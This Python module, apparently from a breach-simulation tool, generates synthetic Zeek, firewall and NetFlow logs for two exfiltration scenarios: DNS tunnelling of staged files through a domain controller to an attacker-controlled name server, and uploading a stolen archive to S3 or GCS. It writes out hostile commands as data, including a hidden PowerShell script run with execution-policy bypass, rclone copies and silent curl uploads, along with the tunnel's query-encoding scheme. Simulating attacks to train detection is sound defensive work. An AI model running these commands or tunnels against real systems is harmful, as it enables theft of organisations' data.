"""Other ways out for the staged files: DNS tunnelling through the domain's resolver, and an upload of the
archive to a cloud storage bucket over HTTPS.

The tunnel's names are unique, so the resolver (the first DC) forwards every query to the domain's
authoritative server, the attacker's: the scenario's external `c2_address`. That is where the data goes."""

from __future__ import annotations

import base64

from breachscope.simulate import clock
from breachscope.simulate.attack import IMAGE, PUBLIC_B, Attack, StoryInputs
from breachscope.simulate.attack_file import CloudUpload, DnsTunnelExfiltration

TAG = "attack:exfiltration"
LABEL = 63  # the longest DNS label
REGION = "ap-northeast-1"
#: service -> (server name of the bucket, an address of the service's own)
STORAGE = {"s3": ("{bucket}.s3." + REGION + ".amazonaws.com", "52.219.162.18"),
           "gcs": ("storage.googleapis.com", "142.250.196.112")}


def _staged(w: Attack, step: str) -> int:
    if not w.out.staged:
        raise ValueError(f"{step}: no staged files to send (a staging step must come first)")
    return sum(f.size for f in w.out.staged)


def dns_tunnel_exfiltration(w: Attack, p: DnsTunnelExfiltration, inputs: StoryInputs) -> None:
    h, dc = w.host(p.host), w.net.with_role("dc")[0]  # the first domain controller resolves for the hosts
    ns = w.spec.external.c2_address  # the domain's authoritative name server: the attacker's own
    _staged(w, "dns_tunnel_exfiltration")
    data = b"".join((inputs.export_dir / f.path).read_bytes() for f in w.out.staged)
    text = base64.b32encode(data).decode().rstrip("=").lower()
    t = start = w.at(p.at)
    w.proc(t - 2 * clock.US, h.name, IMAGE["ps"], f"powershell.exe -nop -w hidden -ep bypass -File "
           f"{PUBLIC_B}\\dn.ps1 -Domain {p.domain} -Path {PUBLIC_B}", w.parent_of(p.actor), w.user_of(p.actor), TAG)
    # a query name: data labels, a sequence label, the domain; 253 characters at most
    labels = max(1, min(3, (253 - len(p.domain) - 8) // (LABEL + 1)))
    per_query = labels * LABEL
    session = w.rng.bytes(2).hex()
    seq = 0
    for seq, pos in enumerate(range(0, len(text), per_query)):
        chunk = text[pos:pos + per_query]
        name = ".".join([*(chunk[i:i + LABEL] for i in range(0, len(chunk), LABEL)), f"{session}{seq:04x}",
                         p.domain])
        t += int(w.rng.integers(150_000, 650_000))
        sport = w.port()
        rtt = float(w.rng.uniform(0.03, 0.2))
        answer = f"TXT 6 a{seq % 65536:04x}0"
        uid = w.s.conn(t, h.ip, sport, dc.ip, 53, "udp", "dns", rtt, len(name) + 29, len(name) + 51, tag=TAG,
                       history="Dd")
        w.s.zeek("dns", t, {"uid": uid, "id.orig_h": h.ip, "id.orig_p": str(sport), "id.resp_h": dc.ip,
                            "id.resp_p": "53", "proto": "udp", "trans_id": str(int(w.rng.integers(0, 65536))),
                            "rtt": f"{rtt:.6f}", "query": name, "qclass": "1", "qclass_name": "C_INTERNET",
                            "qtype": "16", "qtype_name": "TXT", "rcode": "0", "rcode_name": "NOERROR", "AA": "F",
                            "TC": "F", "RD": "T", "RA": "T", "Z": "0", "answers": answer,
                            "TTLs": "0.000000", "rejected": "F"}, TAG)
        _forward(w, t + int(rtt * clock.US * 0.2), dc.ip, ns, name, answer, rtt * 0.7)
    w.exfiltrated("dns_tunnel_exfiltration", h, len(data), ns, p.domain)
    w.note(start, "exfiltration", f"staged files ({len(data)} bytes) sent from {h.name} as {seq + 1} DNS queries "
           f"under {p.domain} through {dc.name}")


def _forward(w: Attack, t: int, dc: str, ns: str, name: str, answer: str, rtt: float) -> None:
    """The resolver's recursive query for a name nobody asked before, to the domain's authoritative server:
    what the edge sees (Zeek conn and dns from the resolver, the firewall's UDP build and teardown, NetFlow
    both ways)."""
    sport, nport, size = w.port(), w.port(), len(name)
    uid = w.s.conn(t, dc, sport, ns, 53, "udp", "dns", rtt, size + 40, size + 62, tag=TAG, history="Dd")
    w.s.zeek("dns", t, {"uid": uid, "id.orig_h": dc, "id.orig_p": str(sport), "id.resp_h": ns, "id.resp_p": "53",
                        "proto": "udp", "trans_id": str(int(w.rng.integers(0, 65536))), "rtt": f"{rtt:.6f}",
                        "query": name, "qclass": "1", "qclass_name": "C_INTERNET", "qtype": "16",
                        "qtype_name": "TXT", "rcode": "0", "rcode_name": "NOERROR", "AA": "T", "TC": "F", "RD": "F",
                        "RA": "F", "Z": "0", "answers": answer, "TTLs": "0.000000", "rejected": "F"}, TAG)
    cid, end = int(w.rng.integers(190_000_000, 199_000_000)), t + int(rtt * clock.US)
    w.s.asa(t, "6-302015", f"Built outbound UDP connection {cid} for outside:{ns}/53 ({ns}/53) to "
            f"inside:{dc}/{sport} ({w.nat}/{nport})", TAG)
    w.s.asa(end, "6-302016", f"Teardown UDP connection {cid} for outside:{ns}/53 to inside:{dc}/{sport} "
            f"duration 0:00:00 bytes {2 * size + 102}", TAG)
    w.s.flow(t, end, dc, ns, sport, 53, 17, size + 40, 1, TAG)
    w.s.flow(t + 300, end, ns, dc, 53, sport, 17, size + 62, 1, TAG, in_if="1", out_if="3")


def cloud_upload(w: Attack, p: CloudUpload, _: StoryInputs) -> None:
    h = w.host(p.host)
    user, parent = w.user_of(p.actor), w.parent_of(p.actor)
    archive = int(_staged(w, "cloud_upload") * 0.31) + 220  # the 7-Zip archive of archive_upload
    path = f"{PUBLIC_B}\\{p.archive}"
    pattern, default_address = STORAGE[p.service]
    sni, address = pattern.format(bucket=p.bucket), p.address or default_address
    if p.tool == "rclone":
        image = f"{PUBLIC_B}\\rclone.exe"
        cmd = f"rclone.exe copy {path} {p.service}:{p.bucket}/ --config {PUBLIC_B}\\rc.conf -q --ignore-existing"
    elif p.service == "s3":
        image, cmd = IMAGE["curl"], f"curl.exe -s -k -T {path} https://{sni}/{p.archive}"
    else:
        image = IMAGE["curl"]
        cmd = (f"curl.exe -s -k -X POST --data-binary @{path} https://{sni}/upload/storage/v1/b/{p.bucket}/o"
               f"?uploadType=media&name={p.archive}")
    t = w.at(p.at)
    w.proc(t, h.name, image, cmd, parent, user, TAG)
    w.s.dns(t + 300_000, h.ip, sni, address, TAG)
    w.netconn(t + 400_000, h.name, image, user, h.ip, w.port(), address, 443, sni, TAG)
    up = archive + 6_300
    w.tls(t + 500_000, h.ip, address, sni, up, 4_900, 23.4, TAG)
    w.exfiltrated("cloud_upload", h, up, address, sni)
    w.note(t, "exfiltration", f"archive {p.archive} ({archive} bytes) uploaded from {h.name} to {sni} "
           f"({address}) with {p.tool}")
